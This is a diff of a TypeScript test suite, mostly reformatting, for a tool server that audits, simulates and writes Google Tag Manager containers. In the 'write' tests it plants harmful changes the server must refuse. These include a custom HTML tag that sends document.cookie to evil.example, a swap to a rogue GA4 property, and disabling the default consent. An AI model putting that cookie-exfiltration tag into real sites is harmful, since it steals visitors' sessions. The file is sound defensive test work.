@@ -35,11 +35,10 @@ const change = async (changes: object[]) => await call('effect', { before: at, c
 describe('tasks over files', () => {
   it('lists twelve tools with schemas, of which one writes', async () => {
     const { tools } = await client.listTools()
-    expect(tools.map(({ name }) => name)).toEqual(
-      'plan explain audit simulate test effect mutate consent_prove taint live merge write'.split(' '),
-    )
+    expect(tools.map(({ name }) => name)).toEqual('plan explain audit simulate test effect mutate consent_prove taint live merge write'.split(' '))
     expect(tools.filter(({ annotations }) => annotations?.readOnlyHint !== true).map(({ name }) => name)).toEqual(['write'])
-    for (const { inputSchema, description } of tools) expect([inputSchema, description]).toEqual([expect.objectContaining({ type: 'object' }), expect.stringMatching(/.{20}/)])
+    for (const { inputSchema, description } of tools)
+      expect([inputSchema, description]).toEqual([expect.objectContaining({ type: 'object' }), expect.stringMatching(/.{20}/)])
   })
 
   it.each<[string, string, object, RegExp]>([
@@ -47,8 +46,24 @@ describe('tasks over files', () => {
     ['plans German goals', 'plan', { goals: 'Käufe über 50 Euro messen', language: 'de' }, /purchase/],
     ['explains a tag', 'explain', { container: at, tag: 'GA4 - purchase' }, /fires: open .+ then push/],
     ['audits', 'audit', { container: at }, /0 errors/],
-    ['simulates steps', 'simulate', { container: at, steps: [{ type: 'pageLoad', url: 'https://shop.example/' }, { type: 'push', data: { event: 'purchase' } }] }, /fired +GA4 - purchase/],
-    ['simulates a test of a file', 'simulate', { container: at, steps: 'tracking/tests.yaml', test: 'purchase is sent', trace: true }, /GA4 - purchase on purchase/],
+    [
+      'simulates steps',
+      'simulate',
+      {
+        container: at,
+        steps: [
+          { type: 'pageLoad', url: 'https://shop.example/' },
+          { type: 'push', data: { event: 'purchase' } },
+        ],
+      },
+      /fired +GA4 - purchase/,
+    ],
+    [
+      'simulates a test of a file',
+      'simulate',
+      { container: at, steps: 'tracking/tests.yaml', test: 'purchase is sent', trace: true },
+      /GA4 - purchase on purchase/,
+    ],
     ['runs tests', 'test', { container: at, tests: 'tracking/tests.yaml' }, / 0 failed/],
     ['compares a container with itself', 'effect', { before: at, after: at }, /Nothing leaves the browser differently/],
     ['judges tests by mutants', 'mutate', { container: at, tests: 'tracking/tests.yaml' }, /faults noticed[\s\S]+Proof: draft:/],
@@ -66,7 +81,12 @@ describe('tasks over files', () => {
       macros: [{ function: '__e' }],
       tags: [{ function: '__gaawe', once_per_event: true, vtp_eventName: 'purchase', vtp_measurementIdOverride: 'G-ABC123', tag_id: 3 }],
       predicates: [{ function: '_eq', arg0: ['macro', 0], arg1: 'purchase' }],
-      rules: [[['if', 0], ['add', 0]]],
+      rules: [
+        [
+          ['if', 0],
+          ['add', 0],
+        ],
+      ],
     }
     writeFileSync(join(folder, 'gtm.js'), `(function(){var data = ${JSON.stringify({ resource, blob: { 10: 'GTM-ABCD123' } })};})()`)
     const { from } = kept(await call('live', { from: 'gtm.js' }))
@@ -115,7 +135,18 @@ describe('write', () => {
   it('takes a change with a hit that is meant', async () => {
     const { tag } = pointersOf(original)
     const { value } = tag('GA4 - purchase')
-    const answer = await change([{ op: 'add', path: '/containerVersion/tag/-', value: { ...value, tagId: '900', name: 'Second', parameter: (value['parameter'] as { key: string; value?: string }[]).map((one) => (one.key === 'eventName' ? { ...one, value: 'order' } : one)) } }])
+    const answer = await change([
+      {
+        op: 'add',
+        path: '/containerVersion/tag/-',
+        value: {
+          ...value,
+          tagId: '900',
+          name: 'Second',
+          parameter: (value['parameter'] as { key: string; value?: string }[]).map((one) => (one.key === 'eventName' ? { ...one, value: 'order' } : one)),
+        },
+      },
+    ])
     expect(answer).toContain('gained')
     expect(await refused('write', replaced(answer))).toContain('gained: GA4 event order')
     expect(await call('write', { ...replaced(answer), meant: ['GA4 event order'] })).toContain('Written')
@@ -135,11 +166,34 @@ describe('write', () => {
     ['pauses a tag', ({ tag }) => [{ op: 'add', path: `${tag('GA4 - purchase').pointer}/paused`, value: true }]],
     ['removes a tag', ({ tag }) => [{ op: 'remove', path: tag('GA4 - newsletter_sign_up').pointer }]],
     ['takes the trigger of a tag away', ({ tag }) => [{ op: 'replace', path: `${tag('GA4 - purchase').pointer}/firingTriggerId`, value: [] }]],
-    ['misspells the event of a trigger', ({ trigger }) => [{ op: 'replace', path: `${trigger('CE - purchase').pointer}/customEventFilter/0/parameter/1/value`, value: 'purchased' }]],
+    [
+      'misspells the event of a trigger',
+      ({ trigger }) => [{ op: 'replace', path: `${trigger('CE - purchase').pointer}/customEventFilter/0/parameter/1/value`, value: 'purchased' }],
+    ],
     ['sends twice', ({ tag }) => [{ op: 'add', path: '/containerVersion/tag/-', value: { ...tag('GA4 - purchase').value, tagId: '900', name: 'Copy' } }]],
-    ['sends to another property', ({ variable }) => [{ op: 'replace', path: `${variable('Const - GA4 Measurement ID').pointer}/parameter/0/value`, value: 'G-EVIL00EVIL' }]],
+    [
+      'sends to another property',
+      ({ variable }) => [{ op: 'replace', path: `${variable('Const - GA4 Measurement ID').pointer}/parameter/0/value`, value: 'G-EVIL00EVIL' }],
+    ],
     ['takes the default of consent away', ({ tag }) => [{ op: 'add', path: `${tag('Consent - Default denied').pointer}/paused`, value: true }]],
-    ['brings code of its own', () => [{ op: 'add', path: '/containerVersion/tag/-', value: { accountId: '0', containerId: '0', tagId: '901', name: 'Html', type: 'html', parameter: [{ type: 'TEMPLATE', key: 'html', value: "<script>fetch('https://evil.example/?' + document.cookie)</script>" }], firingTriggerId: ['2147479553'] } }]],
+    [
+      'brings code of its own',
+      () => [
+        {
+          op: 'add',
+          path: '/containerVersion/tag/-',
+          value: {
+            accountId: '0',
+            containerId: '0',
+            tagId: '901',
+            name: 'Html',
+            type: 'html',
+            parameter: [{ type: 'TEMPLATE', key: 'html', value: "<script>fetch('https://evil.example/?' + document.cookie)</script>" }],
+            firingTriggerId: ['2147479553'],
+          },
+        },
+      ],
+    ],
     ['does not import', ({ tag }) => [{ op: 'replace', path: `${tag('GA4 - purchase').pointer}/type`, value: 7 }]],
   ]
   it.each(planted)('refuses a change that %s', async (_, changesOf) => {
@@ -173,7 +227,9 @@ describe('write', () => {
     ] as const)
       expect(await refused('write', { path: at, from: losing.from, proof: forged })).toContain(says)
     expect(await refused('write', { path: at, from: losing.from, proof: honest.proof })).toContain('otherInput')
-    expect(await refused('write', { path: at, from: honest.from, proof: kept(await call('taint', { container: at })).proof })).toContain("needs a proof of 'effect'")
+    expect(await refused('write', { path: at, from: honest.from, proof: kept(await call('taint', { container: at })).proof })).toContain(
+      "needs a proof of 'effect'",
+    )
     writeFileSync(join(folder, 'blind.yaml'), '- { type: pageLoad, url: "https://shop.example/" }\n')
     const blind = kept(await call('effect', { before: at, after: losing.from, visits: 'blind.yaml' }))
     expect(await refused('write', { path: at, from: losing.from, proof: blind.proof })).toContain('visits of your own')
@@ -190,10 +246,17 @@ describe('write', () => {
     const open = kept(await call('plan', { goals, consent: 'none' })).from.replace('plan.json', 'container.json')
     const proof = kept(await call('consent_prove', { container: open })).proof
     expect(await refused('write', { path: 'open.json', from: open, proof })).toContain("the proof of 'consent prove' did not pass")
-    expect(await refused('write', { path: 'open.json', from: open, proof: kept(await call('taint', { container: open })).proof })).toContain("needs a proof of 'consent prove'")
-    writeFileSync(join(folder, 'weak.yaml'), 'container: tracking/container.json\ntests:\n  - name: Weak\n    steps:\n      - { type: pageLoad, url: "https://shop.example/" }\n')
+    expect(await refused('write', { path: 'open.json', from: open, proof: kept(await call('taint', { container: open })).proof })).toContain(
+      "needs a proof of 'consent prove'",
+    )
+    writeFileSync(
+      join(folder, 'weak.yaml'),
+      'container: tracking/container.json\ntests:\n  - name: Weak\n    steps:\n      - { type: pageLoad, url: "https://shop.example/" }\n',
+    )
     const weak = kept(await call('mutate', { container: at, tests: 'weak.yaml' }))
-    expect(await refused('write', { path: 'tracking/tests.yaml', from: 'weak.yaml', proof: weak.proof, container: at })).toContain("the proof of 'mutate' did not pass")
+    expect(await refused('write', { path: 'tracking/tests.yaml', from: 'weak.yaml', proof: weak.proof, container: at })).toContain(
+      "the proof of 'mutate' did not pass",
+    )
   })
 
   it.each([
@@ -238,7 +301,8 @@ describe('over HTTP', () => {
     const { content } = await other.callTool({ name: 'audit', arguments: { container: at } })
     expect(content[0]?.text).toContain('0 errors')
     await other.close()
-    const asked = (headers: Record<string, string>, method = 'POST') => fetch(url, { method, headers, ...(method === 'POST' ? { body: '{}' } : {}) }).then(({ status }) => status)
+    const asked = (headers: Record<string, string>, method = 'POST') =>
+      fetch(url, { method, headers, ...(method === 'POST' ? { body: '{}' } : {}) }).then(({ status }) => status)
     const good = { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }
     expect(await asked({ ...good, Authorization: 'Bearer wrong' })).toBe(401)
     expect(await asked({ 'Content-Type': 'text/plain' })).toBe(401)
@@ -257,7 +321,9 @@ describe('with an installation', () => {
       for await (const part of request) body += String(part)
       calls.push([request.method, request.url, request.headers.authorization, body])
       const known = request.headers.authorization === 'Bearer atk_test_good'
-      response.writeHead(known ? 200 : 401, { 'Content-Type': 'application/json' }).end(JSON.stringify(known ? { rows: [{ visitors: 12 }] } : { title: 'Unauthorized' }))
+      response
+        .writeHead(known ? 200 : 401, { 'Content-Type': 'application/json' })
+        .end(JSON.stringify(known ? { rows: [{ visitors: 12 }] } : { title: 'Unauthorized' }))
     })
     onTestFinished(() => void server.close())
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
